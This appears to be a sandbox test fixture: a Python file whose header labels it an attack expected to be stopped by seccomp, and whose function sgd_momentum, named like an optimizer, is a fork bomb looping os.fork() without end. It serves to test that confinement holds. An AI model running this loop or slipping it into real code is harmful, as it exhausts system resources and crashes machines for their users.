# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "seccomp"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Forks without end."""

import os


def sgd_momentum(w, dw, config=None):
    while True:
        os.fork()
